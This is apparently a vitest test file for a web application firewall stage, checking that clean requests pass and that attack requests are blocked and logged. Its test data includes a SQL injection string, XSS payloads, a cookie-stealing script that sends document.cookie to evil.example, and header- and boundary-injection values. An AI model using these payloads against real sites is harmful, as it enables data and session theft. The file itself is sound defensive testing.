import { describe, expect, it } from "vitest";
import { createPipelineConfig } from "../config";
import { createEdgeContext, runPipeline } from "../pipeline";
import { wafConfig } from "../waf/config";
import { inspectRequest } from "../waf/engine";
import { DEFAULT_WAF_CONFIG } from "../waf/config";
import { rawPathAndQuery, wafInputOf, wafInputOfFields, wafStage } from "./waf";

const config = createPipelineConfig({}, { CYANEA_LOG_HASH_SALT: "s" });
const ATTACK = "/api/datasets?q=1%27%20UNION%20SELECT%20password%20FROM%20users--&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E";

async function run(path: string, init: RequestInit = {}, cfg = config) {
  const req = new Request(`http://localhost${path}`, init);
  const ctx = createEdgeContext(req, cfg);
  return { decision: await wafStage(req, ctx), ctx };
}

describe("WAF stage adapter", () => {
  it("keeps the raw path and query (percent-encoding and + intact)", () => {
    expect(rawPathAndQuery("http://h:1/a%2Fb/c?x=1+2&y=%27#frag")).toEqual({ path: "/a%2Fb/c", rawQuery: "x=1+2&y=%27" });
    expect(rawPathAndQuery("http://h/")).toEqual({ path: "/", rawQuery: "" });
  });

  it("passes a bounded body prefix and all headers to the engine", async () => {
    const req = new Request("http://localhost/api/labs", { method: "POST", headers: { "content-type": "application/json", "user-agent": "ua" }, body: "x".repeat(100) });
    const input = await wafInputOf(req, 10);
    expect(input).toMatchObject({ method: "POST", path: "/api/labs", rawQuery: "", body: { contentType: "application/json", text: "x".repeat(10) } });
    expect(input.headers["user-agent"]).toBe("ua");
    expect(await req.text()).toHaveLength(100); // original body untouched
  });

  it("allows clean traffic and records the score", async () => {
    const { decision, ctx } = await run("/api/datasets?q=E.%20coli%20K-12&limit=25", { headers: { "user-agent": "Mozilla/5.0", host: "localhost" } });
    expect(decision).toEqual({ kind: "allow" });
    expect(ctx.waf).toMatchObject({ action: "allow" });
  });

  it("blocks an attack with 403 problem+json carrying no rule details, and logs score and rule ids", async () => {
    const { decision, ctx } = await run(ATTACK);
    expect(decision).toMatchObject({ kind: "block", status: 403, reason: "waf_block", problem: { code: "forbidden" } });
    expect(JSON.stringify(decision)).not.toMatch(/9\d{5}|sqli|xss|union/i);
    expect(ctx.waf!.score).toBeGreaterThanOrEqual(25);
    expect(ctx.waf!.ruleIds.length).toBeGreaterThan(0);

    const r = await runPipeline(new Request(`http://localhost${ATTACK}`), config);
    expect(r.response?.status).toBe(403);
    const body = await r.response!.json();
    expect(body.requestId).toBe(r.log.requestId);
    expect(r.log.waf).toMatchObject({ action: "block", ruleIds: ctx.waf!.ruleIds });
    expect(r.log.stages.map((s) => s.name)).toEqual(["trace", "waf"]);
  });

  it("only logs in detect-only mode", async () => {
    const detect = createPipelineConfig({ waf: wafConfig({ detectOnly: true }) }, {});
    const { decision, ctx } = await run(ATTACK, {}, detect);
    expect(decision).toEqual({ kind: "allow" });
    expect(ctx.waf!.score).toBeGreaterThanOrEqual(25);
  });

  it("reads multipart bodies like any other body", async () => {
    const form = new FormData();
    form.append("comment", "<script>alert(document.cookie)</script>");
    const req = new Request("http://localhost/api/labs", { method: "POST", body: form });
    const input = await wafInputOf(req, 64 * 1024);
    expect(input.body?.contentType).toMatch(/^multipart\/form-data; boundary=/);
    expect(input.body?.text).toContain("alert(document.cookie)");
    expect(inspectRequest(input, DEFAULT_WAF_CONFIG).action).toBe("block");
  });

  it("inspects already-parsed upload fields as multipart values under their names", () => {
    const req = new Request("http://localhost/api/datasets", { method: "POST", headers: { "content-type": "multipart/form-data; boundary=x", "user-agent": "Mozilla/5.0", host: "localhost", accept: "*/*" } });
    const clean = wafInputOfFields(req, {
      title: "E. coli K-12 MG1655 (RefSeq NC_000913.3) — 5' UTR variants",
      description: "Reads trimmed with `cutadapt -a AGATCGGAAGAGC` and mapped with bwa mem; GC = 50.8%, see ../README.",
      tags: "genome, e-coli",
    });
    expect(clean.body?.text).toContain('name="title"');
    expect(inspectRequest(clean, DEFAULT_WAF_CONFIG).action).toBe("allow");

    const attack = wafInputOfFields(req, { title: "<script>document.location='http://evil.example/?c='+document.cookie</script>", description: "x" });
    const result = inspectRequest(attack, DEFAULT_WAF_CONFIG);
    expect(result.action).toBe("block");
    expect(result.matched.some((m) => m.target === "multipart:title")).toBe(true);
    // Descriptions are methods text shown escaped: HTML and code in them pass.
    expect(inspectRequest(wafInputOfFields(req, { title: "x", description: "Rendered as <b>bold</b>? No: see the javascript: console." }), DEFAULT_WAF_CONFIG).action).not.toBe("block");

    // A field name cannot break out of its part header.
    const odd = wafInputOfFields(req, { 'a"\r\nX-Injected: 1': "v" });
    expect(odd.body?.text).not.toContain("\r\nX-Injected");
  });

  it("a field value cannot close the serialized form and hide the fields after it", () => {
    const req = new Request("http://localhost/api/datasets", { method: "POST", headers: { "content-type": "multipart/form-data; boundary=x", "user-agent": "Mozilla/5.0", host: "localhost", accept: "*/*" } });
    const first = wafInputOfFields(req, { title: "a" });
    const boundary = /boundary=(\S+)/.exec(first.body?.contentType ?? "")?.[1] ?? "";
    expect(boundary).toMatch(/^cyanea-[0-9a-f]{32}$/);
    // Even a value that carries a boundary seen earlier does not end the form: each call draws a new one.
    const fields = { description: `x\r\n--${boundary}--\r\n`, title: "<script>document.location='http://evil.example/?c='+document.cookie</script>" };
    const input = wafInputOfFields(req, fields);
    expect(input.body?.contentType).not.toContain(boundary);
    const result = inspectRequest(input, DEFAULT_WAF_CONFIG);
    expect(result.action).toBe("block");
    expect(result.matched.some((m) => m.target === "multipart:title")).toBe(true);
  });
});
